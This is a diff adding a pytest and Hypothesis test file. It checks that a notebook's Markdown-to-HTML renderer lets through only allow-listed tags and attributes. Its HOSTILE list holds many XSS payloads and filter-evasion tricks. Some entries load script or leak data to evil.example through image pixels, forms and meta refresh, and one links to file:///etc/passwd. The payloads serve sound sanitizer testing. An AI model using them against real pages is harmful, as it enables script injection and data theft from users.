@@ -1,0 +1,205 @@
+"""A model's Markdown becomes HTML in which nothing can run, load, or lie over the page."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from llx_magic.notebook.render import code_to_html, markdown_to_html
+
+TAGS = {
+    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre",
+    "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
+}  # fmt: skip
+ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}, "span": {"style"}, "td": {"style"}, "th": {"style"}}
+
+
+class Inspector(HTMLParser):
+    """Reads HTML as a browser does and claims of each tag that it may be there."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.text = ""
+        self.links: list[str] = []
+        self.open = 0
+
+    def handle_starttag(self, tag, attributes):
+        assert tag in TAGS, f"<{tag}>"
+        for name, value in attributes:
+            assert name in ATTRIBUTES.get(tag, ()), f"<{tag} {name}={value!r}>"
+            if name == "href":
+                self.links.append(value)
+                assert value.split(":")[0].lower() in ("http", "https", "mailto") or ":" not in value.split("/")[0]
+            if name == "style":
+                assert value.split(":")[0] in ("color", "text-align")
+                assert "url" not in value.lower()
+                assert ";" not in value
+            if name == "rel":
+                assert value == "noopener noreferrer"
+
+    def handle_data(self, data):
+        self.text += data
+
+    def handle_comment(self, data):
+        raise AssertionError(f"a comment: {data}")
+
+    def handle_decl(self, declaration):
+        raise AssertionError(f"a declaration: {declaration}")
+
+    def handle_pi(self, data):
+        raise AssertionError(f"a processing instruction: {data}")
+
+
+def inspected(html: str) -> Inspector:
+    """Return the HTML as it was read; every tag and attribute was allowed."""
+    reader = Inspector()
+    reader.feed(html)
+    reader.close()
+    return reader
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=data:text/html,x></object><embed src=x>",
+    "<style>*{display:none}</style>",
+    "<div style='position:fixed;inset:0'>over the page</div>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<form action=//evil.example><input name=q><button>go</button></form>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<details ontoggle=alert(1) open>x</details>",
+    "<video src=x onerror=alert(1)></video><audio src=x>",
+    "<b onmouseover=alert(1)>x</b>",
+    "<!-- --><!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?><!DOCTYPE html>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox)",
+    "[x](file:///etc/passwd)",
+    "[x](\x01javascript:alert(1))",
+    "[x](https://ok.example 'title\" onmouseover=alert(1) x=\"')",
+    '[x](<https://ok.example/" onmouseover=alert(1)>)',
+    "[a]: javascript:alert(1)\n\n[a]",
+    "<javascript:alert(1)>",
+    "![x](https://evil.example/pixel.png?q=secret)",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "![](https://evil.example/pixel.png)",
+    "[![x](https://evil.example/pixel.png)](https://ok.example)",
+    "![![nested](a)](b)",
+    "![a][r]\n\n[r]: https://evil.example/p.png",
+    "`<script>alert(1)</script>`",
+    "```html\n<script>alert(1)</script>\n```",
+    "```\n</code></pre><script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "```html onload=alert(1)\nx\n```",
+    "~~~' onclick='alert(1)\nx\n~~~",
+    "    <script>alert(1)</script>",
+    "# <img src=x onerror=alert(1)>",
+    "| <script> | b |\n|:-:|--:|\n| <img src=x> | [x](javascript:1) |",
+    "> <script>alert(1)</script>",
+    "1. <script>alert(1)</script>\n2. x",
+    "7) starts at seven",
+    "~~<script>~~ **<script>** *<script>*",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
+    "\\<script>alert(1)\\</script>",
+    "<a href='https://ok.example' style='position:fixed'>x</a>",
+    "$\\href{javascript:alert(1)}{x}$",
+    "\x00<script\x00>alert(1)</script>",
+    "\ufeff<script>alert(1)</script>",
+    "<" * 3000,
+    "[" * 3000,
+    "*" * 3000 + "a",
+    "> " * 500 + "x",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+def test_nothing_but_allowed_tags_and_attributes_comes_of_hostile_text(text):
+    inspected(markdown_to_html(text))
+
+
+@pytest.mark.parametrize("language", ["html", "python", "", "no such language", '"><script>', "javascript", "../x"])
+@pytest.mark.parametrize("code", ["<script>alert(1)</script>", "</code></pre><img src=x onerror=alert(1)>", "x = 1"])
+def test_a_block_of_code_holds_its_text_and_only_colours(code, language):
+    assert inspected(code_to_html(code, language)).text.rstrip("\n") == code
+
+
+def test_an_image_becomes_a_link_that_the_reader_may_follow():
+    html = markdown_to_html("![a chart](https://ok.example/chart.png)")
+    assert "<img" not in html
+    assert inspected(html).links == ["https://ok.example/chart.png"]
+    assert "image: a chart" in html
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("# Title", "<h1>Title</h1>"),
+        ("**b** *i* ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>"),
+        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
+        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>'),
+        ("a  \nb", "<p>a<br>\nb</p>"),
+        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>"),
+        ("a & b < c", "<p>a &amp; b &lt; c</p>"),
+    ],
+)
+def test_ordinary_markdown_is_rendered(text, html):
+    assert markdown_to_html(text).strip() == html
+
+
+def test_a_table_keeps_its_alignment():
+    html = markdown_to_html("| a | b |\n|:-:|--:|\n| 1 | 2 |")
+    assert '<th style="text-align:center">a</th>' in html
+    assert '<td style="text-align:right">2</td>' in html
+
+
+def test_code_is_coloured_in_the_colours_of_the_front_end():
+    html = markdown_to_html("```python\ndef f(): return 1\n```")
+    assert "--jp-mirror-editor-keyword-color" in html
+    assert inspected(html).text.strip() == "def f(): return 1"
+
+
+MARKUP = st.sampled_from([
+    "<", ">", "</", "<script>", "<img src=", "onerror=", "javascript:", "[x](", "![", "](", ")", "`", "```", "\n",
+    "\n\n",
+    "    ", "|", "|-|-|\n", "&#", ";", "&lt;", '"', "'", "=", "#", "> ", "- ", "1. ", "*", "_", "~~", "\\", "<!--",
+    "-->", "<![CDATA[", "style=", "https://x.example", "\t", "\x00", "\u202e", "a", "<a href=", "<svg/", "[a]: ", "$",
+    "data:", "$$", "\\(", "\\href{", "}",
+])  # fmt: skip
+
+
+@settings(max_examples=400)
+@given(st.lists(MARKUP, max_size=30).map("".join))
+def test_no_mixture_of_markup_yields_anything_but_allowed_tags(text):
+    inspected(markdown_to_html(text))
+
+
+@settings(max_examples=200)
+@given(st.text())
+def test_no_text_yields_anything_but_allowed_tags(text):
+    inspected(markdown_to_html(text))
+
+
+@settings(max_examples=200)
+@given(st.text(), st.text(max_size=12) | st.sampled_from(["python", "html", "json", "js"]))
+def test_no_code_in_any_language_yields_anything_but_colours(code, language):
+    inspected(code_to_html(code, language))
